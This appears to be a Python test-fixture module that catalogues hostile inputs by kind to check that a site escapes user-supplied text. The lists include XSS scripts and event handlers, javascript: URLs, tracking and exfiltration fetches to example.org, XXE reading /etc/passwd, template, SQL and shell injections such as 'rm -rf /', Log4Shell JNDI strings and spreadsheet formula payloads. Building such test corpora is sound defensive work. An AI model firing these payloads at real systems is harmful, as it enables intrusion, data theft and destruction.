"""What somebody could write where a name, an activity, a comment or an assessment is asked for.

`KINDS` groups the texts by what each would do where text is taken for something else; `HOSTILE` holds all of
them. Addresses are of the reserved domain example.org, and nobody answers there.
"""

from __future__ import annotations

from collections.abc import Mapping

SPY = "https://example.org/spion"
LONG = 10_000

SCRIPTS = (  # would run as a script of the page, also where the tag is broken, nested or closes another first
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<script\n>alert(1)</script\n>",
    f"<script src={SPY}.js></script>",
    "<script src=//example.org/a.js></script>",
    "<script type=module>import('https://example.org/a.js')</script>",
    "<script>fetch('https://example.org/'+document.title)</script>",
    "<script>/*",
    "*/alert(1)//</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<!--><script>alert(1)</script>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
)
EVENTS = (  # would run when something loads, fails, is touched or gets the focus
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror\n=alert(1)>",
    "<p onclick=alert(1)>tryck</p>",
    "<p onmouseover='alert(1)'>peka</p>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<a href=# onclick=alert(1)>x</a>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<object data=x onerror=alert(1)>",
    "<b style='animation-name:x' onanimationstart=alert(1)>x</b>",
    "<p tabindex=1 onfocus=alert(1) id=x>x</p>",
    "<table background=x onload=alert(1)><td>x",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onerror=alert(1) `",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "x onload=alert(1) y",
)
ADDRESSES = (  # would run, or show a page of its own, where an address is followed
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&#58;alert(1)",
    "javascript://example.org/%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<form action=https://example.org><input name=lösenord></form>",
    "<base href=https://example.org/>",
    "<a href='https://example.org' target=_top ping=https://example.org/p>x</a>",
    "https://example.org/?a=<script>alert(1)</script>",
    "https://användare:lösen@example.org/",
    "file:///etc/passwd",
    "blob:https://example.org/1",
    "intent://example.org#Intent;scheme=http;end",
)
FETCHES = (  # would fetch something from elsewhere, and so tell that the page was opened
    f"<img src={SPY}.png>",
    f'<img srcset="{SPY}.png 1x, {SPY}-2.png 2x">',
    f"<picture><source srcset={SPY}.png><img></picture>",
    f"<link rel=stylesheet href={SPY}.css>",
    f"<link rel=prefetch href={SPY}>",
    f"<link rel=icon href={SPY}.ico>",
    f"<meta http-equiv=refresh content='0;url={SPY}'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    f"<iframe src={SPY}></iframe>",
    f"<frameset><frame src={SPY}></frameset>",
    f"<object data={SPY}></object>",
    f"<embed src={SPY}>",
    f"<video src={SPY}.mp4 poster={SPY}.png></video>",
    f"<audio src={SPY}.mp3 autoplay></audio>",
    f"<track src={SPY}.vtt>",
    f"<body background={SPY}.png>",
    f"<input type=image src={SPY}.png>",
    f"<portal src={SPY}></portal>",
    f"<img src='{SPY}?",
    "<img src=\\\\example.org\\spion.png>",
)
DRAWINGS = (  # would run or fetch as a drawing, or turn the parser into another language's
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)//",
    f"<svg><image href={SPY}.png /></svg>",
    f"<svg><use href={SPY}.svg#x /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><style>@import 'https://example.org/a.css';</style></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
    "<?xml-stylesheet href='https://example.org/a.xsl'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</text></svg><script>alert(1)</script>",
)
STYLES = (  # would move, hide or cover what the page says, or fetch by a style
    f"<style>body{{background:url({SPY}.png)}}</style>",
    "<style>@import 'https://example.org/a.css'</style>",
    "<style>*{display:none}</style>",
    "<p style='position:fixed;inset:0;background:red'>x</p>",
    "<p style=background:url(https://example.org/a.png)>x</p>",
    "<p style='behavior:url(#default#time2)'>x</p>",
    "<div style='width:expression(alert(1))'>x</div>",
    "}body{display:none}",
    "*/}*{color:transparent}/*",
    "\\3c script\\3e alert(1)",
    "</style><p hidden>",
    "<p hidden>gömt</p>",
    "<font size=99 color=white>x</font>",
    "<p class='skip-link stamps cover'>x</p>",
    "<h1 id=innehall>Ny titel</h1>",
    "<div data-refusal='Stopp' data-cell='1'>x</div>",
)
STRUCTURES = (  # would close or open what the page is built of
    "</main>", "</div></div></div>", "</table>", "</td></tr></table><h1>x</h1>", "</figure></details>",
    "<table><tr><td>", "<h1>", "<h2>Egen rubrik</h2>", "<li>", "<dialog open>x</dialog>", "</body></html>",
    "<main>", "<", ">", "</", "<!--", "-->", "<!", "<?", "&", "&lt;script&gt;", "&amp;lt;b&amp;gt;",
    "&#60;b&#62;",
    "&nbsp;&copy&notanentity;", "&#0;&#xD800;&#x110000;", "<b", '<b class="', "a < b > c & d", "5 < 6",
    "<3",
    "<företag>Kaffe & Bröd</företag>", "\"'`<>&=",
)  # fmt: skip
MARKDOWN = (  # would be a link, an image, a heading, a table, code or a formula in Markdown
    "[x](javascript:alert(1))", "[x](JAVASCRIPT:alert(1))", "[x](vbscript:alert(1))",
    "[x](data:text/html,hej)",
    "[x](<javascript:alert(1)>)", "[x](java&#115;cript:alert(1))", "<javascript:alert(1)>", "[x][y]",
    "[x](https://example.org \"a' onclick=alert(1)\")", '[x](https://example.org"onclick="alert(1))',
    "[x](http://example.org)", "[x](//example.org)", "[x](#innehall)", "[](https://example.org)",
    "[Banken](https://bank.example@example.org/)", "https://example.org/a_b_c", "<https://example.org>",
    "**fet", "*a*b*_c_", "`kod`", "``` js", "~~bort~~", "# Rubrik", "###### Djup", "> citat", "- punkt",
    "+ punkt",
    "1. punkt", "2018. Ett bra år", "***", "---", "===", "| a | b |", "|---|---|", ": definition",
    "[ ] att göra",
    "[^1]", "$x^2$", "$$\\href{javascript:alert(1)}{x}$$", "\\(x\\)", "\\begin{a}<b>\\end{a}",
    "    indragen",
    "\\<script\\>", "*[HTML]: x", "{: onclick=alert(1)}", ":::note", "[[wiki]]", "!!! note", "Tabell: min",
)  # fmt: skip
TEMPLATES = (  # would be filled in or carried out by a template, a shell, a database or a formatter
    "{{ 7 * 7 }}", "{% raw %}", "{# bort #}", "{{ cover.title }}", "{%- include '/etc/passwd' -%}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "<?php echo 1 ?>", "{0}", "{year}", "%s%n%d", "%(x)s", "$(reboot)",
    "`id`",
    "; rm -rf /", "| cat", "&& id", "' OR 1=1 --", "'; DROP TABLE företag; --", "../../../etc/passwd",
    "..\\..\\x.ini", "%00", "%3Cscript%3E", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "\\n\\r\\t",
    "__class__",
    "!!python/object:os.system", "${jndi:ldap://example.org/a}",
)  # fmt: skip
FORMULAS = (  # would be computed where a spreadsheet opens the cell
    "=1+1", "=HYPERLINK(\"https://example.org\";\"x\")", "=cmd|'/c calc'!A1", "=IMPORTXML(A1,A2)", "+1+1",
    "-1+1",
    "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\x00=1+1", "＝1+1",
    "＋1", "－1",
    "＠SUM(1)", "\"=1+1\"", "'=1+1", ";=1+1", ",=1+1", "a\n=1+1", "=1+1;\"\"\"",
)  # fmt: skip
SIGNS = (  # would turn, hide, stack or break letters, or stop whoever writes them
    "\u202egnp.exe", "\u202dvänd\u202c", "\u2066isolerad\u2069", "\u200ehöger\u200f", "\u061carabiska",
    "שלום مرحبا",
    "a\u200bb\u200cc\u200dd\u2060e", "\ufeffbom", "mjukt\u00adbinde\u00adstreck", "Caf\u0301e\u0301",
    "Å\u0308",
    "Z" + "\u0301\u0316\u0317\u0338" * 40 + "algo", "e" + "\u0489" * 500, "\ufdfd" * 20, "𒐫𒈙",
    "👩\u200d👩\u200d👧\u200d👦🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f🇸🇪",
    "\x00noll", "\x07klocka\x08\x1b[31mröd", "\x7f\x80\x9f", "rad\u2028ny\u2029stycke",
    "\x0b\x0c\x1c\x1d\x1e\x85",
    "\ufffe\uffff\ufdd0", "\U0001fffe\U0010ffff", "\ue000\U000f0000", "\ufffd", "ⓢⓒⓡⓘⓟⓣ",
    "＜script＞alert(1)＜/script＞",
    "ﬀﬁﬂ", "İıſß", "\u3000brett\u2003rum", "\t\tindrag\n\n\nrader", "\r\nCRLF\r",
)  # fmt: skip
LENGTHS = (  # would widen the page, or keep whoever reads it busy
    "A" * LONG,
    "ord " * (LONG // 4),
    "<b>" * (LONG // 3),
    "[" * LONG,
    "*a " * (LONG // 3),
    "&" * LONG,
    "http://" * (LONG // 7),
    "(" * (LONG // 2) + ")" * (LONG // 2),
    "Å" * LONG,
    "-" * LONG,
    "😀" * (LONG // 2),
    "x\u00ad" * (LONG // 2),
)

KINDS: Mapping[str, tuple[str, ...]] = {
    "scripts": SCRIPTS,
    "events": EVENTS,
    "addresses": ADDRESSES,
    "fetches": FETCHES,
    "drawings": DRAWINGS,
    "styles": STYLES,
    "structures": STRUCTURES,
    "markdown": MARKDOWN,
    "templates": TEMPLATES,
    "formulas": FORMULAS,
    "signs": SIGNS,
    "lengths": LENGTHS,
}
HOSTILE = tuple(text for texts in KINDS.values() for text in texts)
SURROGATES = ("halvt\ud800tecken", "\udc80", "omvänt\udc00\ud800par")
"""Halves of characters, which no file in UTF-8 can hold, but a notebook's JSON can."""


def mark(number: int) -> str:
    """Give the words by which a text is found again, after it.

    >>> mark(7)
    'nr0007slut'
    """
    return f"nr{number:04d}slut"


def marked(number: int, text: str) -> str:
    """Put a text's mark after it, so that what would swallow what follows is found out."""
    return f"{text} {mark(number)}"


def numbered() -> list[tuple[int, str]]:
    """Give every hostile text with its number and its mark."""
    return [(number, marked(number, text)) for number, text in enumerate(HOSTILE)]
